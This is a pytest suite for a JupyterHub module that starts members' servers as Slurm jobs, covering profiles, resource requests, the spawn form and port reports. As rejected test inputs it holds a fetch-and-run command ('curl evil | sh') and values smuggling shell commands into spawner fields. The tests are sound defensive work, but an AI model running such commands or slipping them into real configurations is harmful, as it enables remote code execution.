# -*- coding: utf-8 -*-
# Copyright (c) TeamHub developers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""roles/jupyterhub/files/teamhub_slurm.py, members' servers as Slurm jobs: which
profile a start gets, what the job asks Slurm for, the spawn form, the port report a
job may make, and what the spawn page says while a job waits. The spawner itself, on
a real Slurm, is tested in the cluster scenario."""

import pytest
import role_files

slurm = role_files.load('jupyterhub', 'teamhub_slurm.py', 'teamhub_slurm')

SMALL = {'name': 'small', 'display_name': 'Small', 'cpus': 1, 'memory_mb': 2048, 'time': '8:00:00', 'partition': '', 'groups': []}
LARGE = {'name': 'large', 'display_name': 'Large <b>', 'cpus': 4, 'memory_mb': 16384, 'time': '', 'partition': 'big', 'groups': ['analysts']}
GPU = {'name': 'gpu', 'cpus': 2, 'memory_mb': 1000, 'groups': ['ml']}
PROFILES = [SMALL, LARGE, GPU]


def test_a_member_sees_the_profiles_open_to_everyone_and_to_their_groups():
    assert slurm.profiles_for(PROFILES, []) == [SMALL]
    assert slurm.profiles_for(PROFILES, ['analysts']) == [SMALL, LARGE]
    assert slurm.profiles_for(PROFILES, ['ml', 'analysts']) == PROFILES


@pytest.mark.parametrize('user_options, groups, expected', [
    ({}, [], SMALL),
    (None, [], SMALL),
    ({'profile': ''}, [], SMALL),
    ({'profile': 'large'}, ['analysts'], LARGE),
    ({'profile': 'gpu'}, ['ml'], GPU),
])
def test_a_start_gets_the_profile_it_asks_for_or_the_first_open_one(user_options, groups, expected):
    assert slurm.choose(user_options, PROFILES, groups) is expected


@pytest.mark.parametrize('user_options, groups, message', [
    ({'profile': 'large'}, [], 'The profile large is not open to your groups'),
    ({'profile': 'huge'}, ['analysts'], "There is no profile 'huge'"),
    # What batchspawner would copy into the batch script: refused, whatever the profile.
    ({'profile': 'small', 'memory': '900G'}, [], 'Only a profile can be chosen, not memory'),
    ({'prologue': 'curl evil | sh'}, [], 'Only a profile can be chosen, not prologue'),
    ({'nprocs': 64, 'partition': 'big'}, ['analysts'], 'not nprocs, partition'),
])
def test_anything_but_an_open_profile_is_refused(user_options, groups, message):
    with pytest.raises(slurm.Refused, match=message):
        slurm.choose(user_options, PROFILES, groups)


def test_a_member_without_any_open_profile_is_told_to_ask():
    with pytest.raises(slurm.Refused, match='No server profile is open to your groups'):
        slurm.choose({}, [LARGE], ['others'])


def test_the_job_requests_exactly_the_profile():
    assert slurm.slurm_request(SMALL) == {'req_nprocs': '1', 'req_memory': '2048M', 'req_runtime': '8:00:00', 'req_partition': ''}
    assert slurm.slurm_request(LARGE) == {'req_nprocs': '4', 'req_memory': '16384M', 'req_runtime': '', 'req_partition': 'big'}
    assert slurm.slurm_request(GPU)['req_runtime'] == ''


def test_the_form_offers_the_open_profiles_with_the_first_chosen_and_escapes_names():
    form = slurm.options_form(PROFILES, ['analysts'])
    assert form.count('type="radio"') == 2
    assert 'value="small" checked' in form
    assert 'value="large">' in form
    assert 'Large &lt;b&gt;' in form and 'Large <b>' not in form
    assert '1 CPU, 2 GiB, up to 8:00:00' in form
    assert '4 CPUs, 16 GiB, partition big' in form
    assert 'gpu' not in form


def test_one_open_profile_needs_no_form():
    assert slurm.options_form(PROFILES, []) == ''


def test_the_form_gives_the_profile_name_and_nothing_else():
    assert slurm.options_from_form({'profile': ['large'], 'memory': ['900G']}) == {'profile': 'large'}
    assert slurm.options_from_form({}) == {}


@pytest.mark.parametrize('body, port', [
    (b'{"port": 8888}', 8888),
    ('{"port": 1}', 1),
    ({'port': 65535}, 65535),
])
def test_a_job_reports_its_port(body, port):
    assert slurm.port_report(body) == port


@pytest.mark.parametrize('body, message', [
    # batchspawner's own handler would set these on the spawner: a command the hub runs.
    (b'{"port": 8888, "batch_query_cmd": "touch /tmp/x"}', 'nothing else'),
    (b'{"batch_cancel_cmd": "id"}', 'nothing else'),
    (b'{"ip": "10.0.0.9"}', 'nothing else'),
    (b'{"port": "8888"}', "'8888' is not a port"),
    (b'{"port": true}', 'True is not a port'),
    (b'{"port": 0}', '0 is not a port'),
    (b'{"port": 70000}', '70000 is not a port'),
    (b'[8888]', 'nothing else'),
    (b'port=8888', 'not JSON'),
])
def test_a_report_with_anything_but_a_port_is_refused(body, message):
    with pytest.raises(slurm.Refused, match=message):
        slurm.port_report(body)


@pytest.mark.parametrize('job_status, reason', [
    ('PENDING|Resources|', 'Resources'),
    ('PENDING|Priority|n/a', 'Priority'),
    ('RUNNING|None|node1', 'None'),
    ('', ''),
    ('slurm_load_jobs error: Invalid job id specified', ''),
])
def test_the_reason_a_job_waits_is_read_from_its_status(job_status, reason):
    assert slurm.pending_reason(job_status) == reason


def test_the_spawn_page_says_the_job_waits_for_resources_and_why():
    message = slurm.pending_message(LARGE, 'Resources')
    assert message.startswith('Waiting for resources: 4 CPUs, 16 GiB, partition big (large)')
    assert 'no node has the CPUs and memory of this profile free now' in message
    assert 'Slurm says QOSMaxJobsPerUserLimit' in slurm.pending_message(SMALL, 'QOSMaxJobsPerUserLimit')
    assert slurm.pending_message(SMALL, '').endswith('Your server starts as soon as a node has room.')


def test_profiles_are_checked_where_the_hub_uses_them():
    assert slurm.check_profiles(PROFILES) is PROFILES
    for bad, message in [
        ([], 'at least one profile'),
        ([SMALL, SMALL], 'small is there twice'),
        ([dict(SMALL, name='a b')], "'a b' is not a profile name"),
        ([dict(SMALL, cpus=0)], 'cpus must be a whole number above 0'),
        ([dict(SMALL, memory_mb='2G')], 'memory_mb must be a whole number above 0'),
        ([dict(SMALL, time='8h')], "time '8h' is not a Slurm time limit"),
        ([dict(SMALL, partition='a;b')], "'a;b' is not a partition name"),
    ]:
        with pytest.raises(ValueError, match=message):
            slurm.check_profiles(bad)
